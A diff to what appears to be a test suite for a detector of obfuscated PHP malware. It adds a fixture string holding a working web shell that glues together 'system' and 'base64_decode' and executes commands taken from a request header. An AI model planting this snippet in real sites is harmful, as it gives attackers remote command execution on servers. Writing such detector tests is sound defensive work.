@@ -53,6 +53,7 @@ GLUED_EVAL = (
 GLUED_NEAR = (
     "<?php\n$d = 'gz'.'de'.'code';\n$ev = 'ev' . 'ent';\n$t = 'sys' . 'temd';\n$x = 'as' . 'sertion';\n"
 )
+GLUED_SPACED = "<?php\n$fn = 'sys' . 'te' . 'm';\n$dc = 'bas' . 'e64_' . 'de' . 'code';\n$fn($dc($_SERVER['HTTP_X_Q']));\n?>"
 GLUED_DEC_ONLY = '<?php\n$d = "bas"."e64"."_dec"."ode";\n$t = $d($blob);\n?>'
 EVAL_FN = (
     '<?php\n$p = "'
@@ -99,6 +100,8 @@ CASES: list[tuple[str, bytes, bool]] = [
     *_three("SPAMGEAR_OBFUSC_GluedSinkAndDecoder", GLUED_CUF, "call_user_func"),
     *_three("SPAMGEAR_OBFUSC_GluedSinkAndDecoder", GLUED_ASSERT, "assert"),
     *_three("SPAMGEAR_OBFUSC_GluedSinkAndDecoder", GLUED_EVAL, "eval"),
+    *_three("SPAMGEAR_OBFUSC_GluedSinkAndDecoder", GLUED_SPACED, "spaced glue"),
+    *_three("SPAMGEAR_OBFUSC_GluedDecoderMulti", GLUED_SPACED, "spaced glue"),
     ("SPAMGEAR_OBFUSC_GluedSinkAndDecoder", plain(GLUED_NEAR), False),
     # near misses: plain names, a name cut once, a glued word that is not a sink
     (
